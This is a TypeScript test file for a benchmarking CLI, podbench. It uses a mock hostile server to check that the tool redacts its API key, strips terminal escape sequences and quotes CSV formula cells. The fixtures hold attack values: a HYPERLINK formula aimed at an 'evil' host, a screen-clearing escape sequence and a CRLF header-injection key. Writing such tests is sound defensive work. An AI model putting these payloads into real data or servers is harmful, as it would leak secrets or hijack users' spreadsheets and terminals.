// Servers that hand podbench's own key back (in an error body, a FAILED job's error, a job
// or worker id, /health's counts), or text meant for a terminal or a spreadsheet: the key is
// in no output file and in neither stream, escape sequences reach neither the terminal nor
// the files, and CSV cells that a spreadsheet would run are quoted (OWASP).
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readCsv, readRecords, readSummary } from '../support/run-files.js';
import { tempDir } from '../support/cli.js';
import {
  KEY,
  PROCESS_SLACK_MS,
  expectKeyNowhere,
  expectOneLine,
  filesUnder,
  hostileScenario,
  json,
  runPodbench,
  startHostileServer,
  useHostileSuite,
  type HostileServer,
} from './support.js';
import { readFileSync } from 'node:fs';

useHostileSuite();

let server: HostileServer | undefined;

const ESC = '\u001b';

describe('a server that echoes the Authorization header', () => {
  it('leaves the key out of every record, report, stream and health sample', async () => {
    let n = 0;
    server = await startHostileServer(
      (req, res) => {
        const auth = String(req.headers.authorization ?? '');
        n += 1;
        if (req.url === '/health') {
          // Counts keyed by the key itself: podbench keeps the numbers, never the key.
          return json(res, 200, { jobs: { [auth]: 1, inQueue: 0 }, workers: { ready: 1, [`k-${auth}`]: 2 } });
        }
        if (req.url?.startsWith('/runsync')) {
          switch (n % 4) {
            case 0:
              return json(res, 500, `upstream said: your header was "${auth}"`);
            case 1:
              return json(res, 200, { id: `job-${auth}`, status: 'FAILED', error: `bad key ${auth}`, workerId: auth });
            case 2:
              return json(res, 400, { error: { message: `${ESC}[2J${ESC}]0;owned${ESC}\\ ${auth}` } });
            default:
              return json(res, 200, {
                id: `=HYPERLINK("http://evil/?k=${n}")`,
                status: 'COMPLETED',
                delayTime: 1,
                executionTime: 2,
                workerId: '@SUM(1+1)',
                output: [{ choices: [{ tokens: ['hi'] }], usage: { input: 1, output: 1 } }],
              });
          }
        }
        return json(res, 404, { error: `no route; you sent ${auth}` });
      },
      { health: false },
    );
    const out = join(tempDir(), 'run');
    const scenario = hostileScenario(
      server.endpointUrl,
      'mode: sync\nload: { concurrency: 2, requests: 16 }\nretry: { maxRetries: 0 }\npolling: { health: 50ms }',
    );
    const run = await runPodbench(['run', scenario, '--out', out], { env: { RUNPOD_API_KEY: KEY } });
    expect(run.code, run.stderr).toBe(0);
    expect(run.wallMs).toBeLessThan(60_000);
    expectKeyNowhere(run, out);
    const records = readRecords(out);
    expect(records).toHaveLength(16);
    // Where the key was, the marker is: the text is kept, the secret is not.
    expect(records.some((r) => r.error?.includes('[redacted]'))).toBe(true);
    expect(records.some((r) => r.jobId === 'job-Bearer [redacted]')).toBe(true);
    // No escape sequence from the server reaches the terminal or any file.
    expect(run.stdout + run.stderr).not.toContain(ESC);
    for (const file of filesUnder(out)) expect(readFileSync(file, 'utf8'), file).not.toContain(ESC);
    // Cells a spreadsheet would run as formulas are quoted.
    const { rows } = readCsv(out, 'requests.csv');
    const ok = rows.filter((r) => r.outcome === 'ok');
    expect(ok.length).toBeGreaterThan(0);
    for (const row of ok) {
      expect(row.jobId).toMatch(/^'=HYPERLINK/);
      expect(row.workerId).toBe("'@SUM(1+1)");
    }
    expect(readSummary(out).variants[0]?.counts.ok).toBe(ok.length);
    // The /health samples kept the server's counts, under cleaned names.
    const health = readFileSync(join(out, 'health.ndjson'), 'utf8');
    expect(health).toContain('"Bearer [redacted]":1');
  });
});

describe('secrets in the command line and the environment', () => {
  it('never echoes URL credentials, whatever the scheme', async () => {
    const run = await runPodbench(['run', 'quick', '--endpoint', 'ftp://user:s3cretPW99@host/v2/abc', '--quiet'], {
      env: { RUNPOD_API_KEY: KEY },
    });
    expect(run.code).toBe(2);
    expect(run.stderr).not.toContain('s3cretPW99');
    expect(run.stderr).toMatch(/expected an http\(s\) URL/);
    expectOneLine(run.stderr);
    expect(run.wallMs).toBeLessThan(PROCESS_SLACK_MS);
  });

  it('refuses a key with control characters (exit 2) without showing it', async () => {
    const bad = `${KEY}\r\nX-Injected: 1`;
    const run = await runPodbench(['run', 'quick', '--endpoint', 'http://127.0.0.1:9/v2/abc', '--quiet'], {
      env: { RUNPOD_API_KEY: bad },
    });
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/\$RUNPOD_API_KEY: the API key holds characters an HTTP header cannot carry/);
    expect(run.stderr).not.toContain(KEY);
    expectOneLine(run.stderr);
  });

  it('refuses a malformed %-escape in --endpoint with one line', async () => {
    const run = await runPodbench(['run', 'quick', '--endpoint', 'http://127.0.0.1:9/v2/ab%E0%A4%A', '--quiet'], {
      env: { RUNPOD_API_KEY: KEY },
    });
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/malformed %-escape/);
    expectOneLine(run.stderr);
  });
});
